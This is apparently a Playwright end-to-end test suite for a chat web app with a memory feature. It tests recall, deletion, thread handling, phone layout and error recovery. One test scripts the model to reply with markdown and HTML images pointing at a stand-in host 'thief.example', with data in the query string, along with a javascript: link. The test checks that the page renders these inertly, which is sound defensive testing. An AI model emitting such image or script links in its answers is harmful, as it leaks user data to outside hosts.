"""The page, in a real browser, against the real gateway."""

import pytest
from playwright.async_api import ViewportSize, expect

from e2e.conftest import Visit
from support.gateway import RunningGateway
from support.scripted_openai import ScriptedOpenAI

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

ABOUT_ME = "For future chats: I live in London, my nickname is RS, and I like concise bullet answers."
ASKING = "Where do I live and what's my nickname?"
PHONE = ViewportSize(width=360, height=780)


async def test_what_was_said_in_one_thread_is_known_in_the_next_and_after_a_reload(
    shared_gateway: RunningGateway, visit: Visit
) -> None:
    visitor = await visit(shared_gateway)
    page = visitor.page
    name = await visitor.sign_in()
    await visitor.say(ABOUT_ME)

    await visitor.begin_thread()
    await visitor.say(ASKING)
    await expect(visitor.answer).to_contain_text("London")
    await expect(visitor.answer).to_contain_text("RS")
    await visitor.answer.get_by_text("used").click()
    await expect(visitor.answer.get_by_test_id("recalled").get_by_role("listitem").first).to_contain_text("London")

    await page.reload()
    await expect(page.get_by_test_id("user")).to_have_text(name)
    await expect(page.get_by_test_id("question")).to_have_text(ASKING)
    await expect(visitor.answer).to_contain_text("London")
    await expect(visitor.answer.get_by_test_id("recalled")).to_be_visible()
    await page.get_by_role("link", name=ABOUT_ME[:20]).click()
    await expect(page.get_by_test_id("question")).to_have_text(ABOUT_ME)


async def test_a_memory_shows_its_source_and_once_deleted_is_gone(shared_gateway: RunningGateway, visit: Visit) -> None:
    visitor = await visit(shared_gateway)
    page = visitor.page
    await visitor.sign_in()
    await visitor.say(ABOUT_ME)
    await visitor.open_memory()
    await visitor.distil()
    london = visitor.memories.filter(has_text="London").first
    await expect(london.get_by_role("blockquote")).to_contain_text("I live in London")

    kept = await visitor.memories.count()
    await london.get_by_role("button", name="Delete").click()
    await london.get_by_role("button", name="Forget").click()
    await expect(visitor.memories).not_to_have_count(kept)
    await page.reload()
    await visitor.open_memory()
    await expect(visitor.memories.filter(has_text="RS").first).to_be_visible()
    await expect(visitor.memories.filter(has_text="I live in London")).to_have_count(0)


async def test_a_memory_can_be_added_changed_and_searched_for(shared_gateway: RunningGateway, visit: Visit) -> None:
    visitor = await visit(shared_gateway)
    page = visitor.page
    await visitor.sign_in()
    await visitor.open_memory()
    for text in ("Plays the violin", "Is allergic to peanuts"):
        await visitor.add_memory(text)

    await page.get_by_role("button", name="Edit “Plays the violin”").click()
    await page.get_by_label("Text of the memory").fill("Plays the cello")
    await page.get_by_role("button", name="Save").click()
    await expect(visitor.memories.filter(has_text="Plays the cello")).to_have_count(1)
    await expect(visitor.memories.filter(has_text="Plays the violin")).to_have_count(0)

    await page.get_by_label("Search memories").fill("peanuts")
    await expect(visitor.memories.first).to_contain_text("peanuts")
    await page.get_by_label("Search memories").fill("")
    await page.get_by_text("How to help", exact=True).click()
    await expect(page.get_by_text("No memory fits.")).to_be_visible()


async def test_a_thread_can_be_renamed_and_deleted(shared_gateway: RunningGateway, visit: Visit) -> None:
    visitor = await visit(shared_gateway)
    page = visitor.page
    await visitor.sign_in()
    await visitor.say("The first thing I say.")
    await page.get_by_role("link", name="The first thing").hover()
    await page.get_by_role("button", name="Rename").click()
    await page.get_by_label("Name of the thread").fill("Beginnings")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("heading", name="Beginnings")).to_be_visible()

    await page.reload()
    await page.get_by_role("link", name="Beginnings").hover()
    await page.get_by_role("button", name="Delete “Beginnings”").click()
    await page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    await expect(page.get_by_role("link", name="Beginnings")).to_have_count(0)
    await expect(page.get_by_test_id("question")).to_have_count(0)


async def test_the_page_fits_a_phone(shared_gateway: RunningGateway, visit: Visit) -> None:
    visitor = await visit(shared_gateway, PHONE)
    page = visitor.page
    await page.goto(shared_gateway.url)
    await expect(page.get_by_label("Your name")).to_be_visible()
    assert not await visitor.scrolls_sideways()

    await visitor.sign_in()
    await visitor.say(ABOUT_ME)
    assert not await visitor.scrolls_sideways()

    await page.get_by_role("button", name="Threads").click()
    await expect(page.get_by_role("dialog", name="Threads")).to_be_visible()
    assert not await visitor.scrolls_sideways()
    await page.get_by_role("link", name="New thread").click()
    await expect(page.get_by_role("dialog")).to_have_count(0)

    await visitor.open_memory()
    assert not await visitor.scrolls_sideways()
    await page.keyboard.press("Escape")
    await expect(page.get_by_role("dialog")).to_have_count(0)


async def test_a_picture_in_an_answer_is_text_and_fetches_nothing(
    gateway: RunningGateway, model: ScriptedOpenAI, visit: Visit
) -> None:
    model.script.reply = lambda _: (
        "Look: ![what I know](https://thief.example/pixel.png?about=you) <img src='https://thief.example/raw.png'> "
        "and [a link](https://elsewhere.example/) or [a trap](javascript:alert(1))."
    )
    visitor = await visit(gateway)
    await visitor.sign_in()
    await visitor.say("Show me.")
    await expect(visitor.answer).to_contain_text("what I know · https://thief.example/pixel.png?about=you")
    await expect(visitor.answer.locator("img")).to_have_count(0)
    links = visitor.answer.get_by_role("link")
    await expect(links).to_have_count(1)
    await expect(links).to_have_attribute("rel", "noopener noreferrer")
    await expect(links).to_have_attribute("target", "_blank")


async def test_an_answer_can_be_stopped_and_the_next_question_asked(
    gateway: RunningGateway, model: ScriptedOpenAI, visit: Visit
) -> None:
    visitor = await visit(gateway)
    await visitor.sign_in()
    model.script.reply = lambda _: "One two three four."
    model.script.hold_after_tokens = 2
    with model.script.chat_gate.closed():
        await visitor.send("Count.")
        await expect(visitor.answer).to_contain_text("One")
        await visitor.page.get_by_role("button", name="Stop").click()
        await expect(visitor.page.get_by_text("You stopped this answer.")).to_be_visible()
    await visitor.say("Count again.")
    await expect(visitor.answer).to_contain_text("One two three four.")


async def test_a_failed_answer_says_so_and_is_given_when_asked_again(
    gateway: RunningGateway, model: ScriptedOpenAI, visit: Visit
) -> None:
    visitor = await visit(gateway)
    page = visitor.page
    await visitor.sign_in()
    model.script.chat_status = 400
    await visitor.send("Hello?")
    await expect(page.get_by_role("alert")).to_be_visible(timeout=20_000)

    model.script.chat_status = 200
    model.script.reply = lambda _: "Here I am."
    await page.get_by_role("button", name="Try again").click()
    await visitor.hear_out()
    await expect(visitor.answer).to_contain_text("Here I am.")
    await expect(page.get_by_test_id("question")).to_have_count(1)
    await expect(page.get_by_role("alert")).to_have_count(0)


async def test_a_reload_in_the_middle_of_an_answer_finds_its_end(
    gateway: RunningGateway, model: ScriptedOpenAI, visit: Visit
) -> None:
    visitor = await visit(gateway)
    await visitor.sign_in()
    model.script.reply = lambda _: "One two three four."
    model.script.hold_after_tokens = 2
    with model.script.chat_gate.closed():
        await visitor.send("Count.")
        await expect(visitor.answer).to_contain_text("One")
        await visitor.page.reload()
        await expect(visitor.page.get_by_test_id("question")).to_have_text("Count.")
        await expect(visitor.answer).to_contain_text("One")
    await visitor.hear_out()
    await expect(visitor.answer).to_contain_text("One two three four.")
    await expect(visitor.page.get_by_test_id("answer")).to_have_count(1)


async def test_a_token_that_is_no_longer_taken_leads_back_to_the_sign_in(
    shared_gateway: RunningGateway, visit: Visit
) -> None:
    visitor = (await visit(shared_gateway)).expect_status(401)
    page = visitor.page
    await visitor.sign_in()
    await page.evaluate(
        """() => {
            const [key] = Object.keys(sessionStorage);
            const kept = JSON.parse(sessionStorage[key]);
            sessionStorage[key] = JSON.stringify({ ...kept, token: "no token" });
        }"""
    )
    await page.reload()
    await expect(page.get_by_test_id("sign-in-reason")).to_contain_text("sign in again")
    await expect(page.get_by_label("Your name")).to_be_visible()
